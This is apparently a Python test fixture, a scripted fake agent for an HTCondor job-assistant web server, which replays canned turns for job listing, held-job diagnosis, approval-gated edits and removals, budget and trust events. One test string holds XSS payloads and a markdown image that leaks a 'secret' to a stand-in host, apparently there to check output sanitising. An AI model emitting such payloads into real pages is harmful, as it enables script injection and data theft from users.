"""A scripted agent for the contract server: what it says depends on the question, in the events of the contract."""

from __future__ import annotations

import asyncio
from typing import Any

from tests.web.contract_world import Json, Session, World

HELD = """Job **172.0** is *held* because it used more memory than it asked for.

| quantity | asked | peak |
|---|---|---|
| memory | 4096 MB | **5122 MB** |
| CPUs | 1 | 0.97 |

1. raise the request to 6 GiB
2. release the job

```sh
condor_qedit 172.0 RequestMemory 6144
```
"""
EDITS = {"low = 0": "low = 60", "bins = 50": "bins = 90"}
HOSTILE = (
    '<img src=x onerror="window.__broken=1"> [bad](javascript:alert(1)) ![leak](https://elsewhere.example/?q=secret) '
    "<style>body{display:none}</style> <script>window.__broken=1</script>"
)


class Turn:
    """One turn of the scripted agent."""

    def __init__(self, world: World, session: Session, user: str) -> None:
        self.world, self.session, self.user = world, session, user
        session.turns += 1
        self.number = session.turns

    async def run(self, text: str) -> None:
        try:
            await self._answer(text.lower())
        except asyncio.CancelledError:
            self.session.record("turn.ended", turn=self.number, reason="stopped", detail="")
        else:
            self.session.record("turn.ended", turn=self.number, reason="answered", detail="")
        finally:
            self.session.live = None

    async def _answer(self, text: str) -> None:
        if self.session.title == "":
            self.session.record("session.changed", title=text[:40])
        if "remove" in text:
            await self._remove()
        elif "experiment" in text and not self._inside():
            self._needs_another_model()
            await self._write("I may not see that.")
        elif "held" in text:
            await self._why_held()
        elif "budget" in text:
            self._over_budget()
            await asyncio.Event().wait()
        elif "edit" in text:
            await self._edit()
        elif "plan" in text:
            await self._plan()
        elif "fail" in text:
            self._ask()
            self.session.record(
                "model.failed", turn=self.number, code="model_unreachable", message="No answer.", retryable=True
            )
        elif "long" in text:
            self._ask()
            await self._write("word " * 600)
        elif "hostile" in text:
            self._ask()
            await self._write(HOSTILE)
        else:
            await self._list()

    def _inside(self) -> bool:
        return any(event.get("trust") == "site" for event in self.session.events)

    def _needs_another_model(self) -> None:
        self._ask()
        message = "read_file would bring experiment data into this conversation; nothing was looked at."
        offer = {"name": "site-model", "trust": "site"}
        self.session.record(
            "session.trust_change_needed",
            model="outside",
            trust="external",
            tool="read_file",
            message=message,
            offer=offer,
        )

    async def _list(self) -> None:
        self._ask()
        result = {"jobs": [{"job_id": "100.0", "state": "RUNNING", "node": "node-100"}], "total": 1}
        await self._call(
            "list_jobs", {"owner": self.user, "state": "RUNNING"}, "read", result, "Your running jobs:\n\n"
        )
        self._ask()
        await self._write("You have **1** running job: `100.0` on *node-100*. 😀 All is well.")

    async def _edit(self) -> None:
        """Two changes in one file: at once, or after its user's word where they review edits."""
        self._ask()
        edits = [{"old": old, "new": new, "file": 0} for old, new in EDITS.items()]
        arguments = {"paths": ["fit.py"], "edits": edits, "dry_run": False}
        await self._write("", [{"id": f"m{self.number}", "tool": "patch_files", "arguments": arguments, "raw": ""}])
        call = self._propose("patch_files", arguments, "write")
        said = "The fit begins at 60 now."
        if any(event["kind"] == "session.edit_review" and event["on"] for event in self.session.events):
            preview = {"summary": "Change fit.py", "targets": ["fit.py"], "owners": [], "details": [], "undo": None}
            decided = await self._approved(call, preview, approver="requester")
            said = said if decided["state"] == "approved" else f"I was told: {decided['decided_reason']}"
        if said.startswith("The"):
            await self._patch(call)
        self._ask()
        await self._write(said)

    async def _patch(self, call: Json) -> None:
        before = after = self.world.files["fit.py"]
        for old, new in EDITS.items():
            after = after.replace(old, new)
        self.world.earlier[f"op-{call['call_id']}", "fit.py"] = (before, after)
        self.world.files["fit.py"] = after
        await self._run(call, {"applied": True, "files": [], "conflicts": []}, None)

    async def _approved(self, call: Json, preview: Json, **more: Any) -> Json:
        """The request once it was decided on."""
        approval = self.world.request_approval(self.session, call, self.user, preview)
        approval.value |= more
        self.session.record("approval.requested", **{key: approval.value[key] for key in _REQUESTED}, **more)
        await approval.decided.wait()
        value = approval.value
        said = {"call_id": call["call_id"], "approval_id": value["approval_id"], "verdict": value["state"]}
        self.session.record("approval.decided", **said, by=value["decided_by"], reason=value["decided_reason"])
        if value["state"] != "approved":
            message = f"Rejected by {value['decided_by']}: {value['decided_reason']}"
            self.session.record("call.refused", call_id=call["call_id"], code="rejected", message=message)
        return value

    def _over_budget(self) -> None:
        account, limits = f"session {self.session.session_id}", {"tokens": 1000, "calls": 20}
        said = {"account": account, "measures": ["tokens"], "limits": limits, "message": "1,000 tokens are used up."}
        self._ask()
        self.session.record("budget.asked", turn=self.number, **said)

    async def _plan(self) -> None:
        steps = (("Look at the log", "done"), ("Find the missing runs", "doing"), ("Write them down", "open"))
        items = [{"text": text, "state": state} for text, state in steps]
        self._ask()
        await self._call("write_todos", {"items": items}, "read", {"items": items}, "")
        self._ask()
        await self._write("Shall I go on?")

    async def _why_held(self) -> None:
        self._ask()
        result = {"job_id": "172.0", "state": "HOLDING", "evidence": ["Peak usage: 5122 megabytes"]}
        await self._call("explain_job", {"job_id": "172.0", "cluster": "dev"}, "read", result, "")
        self._ask()
        await self._write(HELD)

    async def _remove(self) -> None:
        self._ask()
        arguments = {"job_ids": ["201.0", "202.0", "203.0"], "cluster": "dev"}
        requested = {"id": f"m{self.number}", "tool": "remove_jobs", "arguments": arguments, "raw": ""}
        await self._write("I ask for these three to be removed.", [requested])
        call = self._propose("remove_jobs", arguments, "high")
        preview = {
            "summary": "Remove 3 jobs of user01 on dev (running: 2, queued: 1)",
            "targets": ["201.0", "202.0", "203.0"],
            "owners": ["user01"],
            "details": ["2 jobs are running on node-081 and node-082", "1 job is queued"],
            "undo": None,
        }
        value = await self._approved(call, preview)
        if value["state"] == "approved":
            await self._run(call, {"done": arguments["job_ids"], "refused": {}}, value["approval_id"])
            said = "The three jobs are removed."
        else:
            said = f"I did not remove them. Rejected by {value['decided_by']}: {value['decided_reason']}"
        self._ask()
        await self._write(said)

    def _ask(self) -> None:
        self.session.record("model.asked", turn=self.number, model="builtin")

    async def _write(self, text: str, calls: list[Json] | None = None) -> None:
        written = ""
        pieces = text.split(" ")
        for index, word in enumerate(pieces):
            piece = word if index == len(pieces) - 1 else f"{word} "
            self.session.tell({"kind": "delta", "turn": self.number, "text": piece, "offset": len(written)})
            written += piece
            self.session.live = {"kind": "delta", "turn": self.number, "text": written, "offset": 0}
            await asyncio.sleep(self.world.delta_s)
        self.session.live = None
        self.session.record(
            "model.replied",
            turn=self.number,
            text=text,
            calls=calls or [],
            prompt_tokens=412,
            completion_tokens=len(pieces),
            finish="stop",
        )

    async def _call(self, tool: str, arguments: Json, risk: str, result: Any, said: str) -> None:
        requested = {"id": f"m{self.number}", "tool": tool, "arguments": arguments, "raw": ""}
        await self._write(said, [requested])
        await self._run(self._propose(tool, arguments, risk), result, None)

    def _propose(self, tool: str, arguments: Json, risk: str) -> Json:
        call = {"call_id": self.world.identifier("c"), "tool": tool, "arguments": arguments}
        self.session.record("call.proposed", **call, principal=self.user, origin="model", risk=risk)
        return call

    async def _run(self, call: Json, result: Any, approval_id: str | None) -> None:
        call_id = call["call_id"]
        operation = f"op-{call_id}"
        self.session.record(
            "call.intent",
            call_id=call_id,
            operation_id=operation,
            acting_as=self.user,
            worker_id=self.session.worker_id,
            approval_id=approval_id,
        )
        self.session.tell({"kind": "output", "call_id": call_id, "stream": "stdout", "text": "asking the schedd\n"})
        await asyncio.sleep(self.world.delta_s)
        label = {"confidentiality": "user", "integrity": "trusted"}
        self.session.record("call.outcome", call_id=call_id, status="done", result=result, duration_ms=212, label=label)


_REQUESTED = (
    "call_id",
    "approval_id",
    "tool",
    "arguments",
    "requester",
    "risk",
    "rule",
    "reason",
    "digest",
    "preview",
    "expires_at",
)
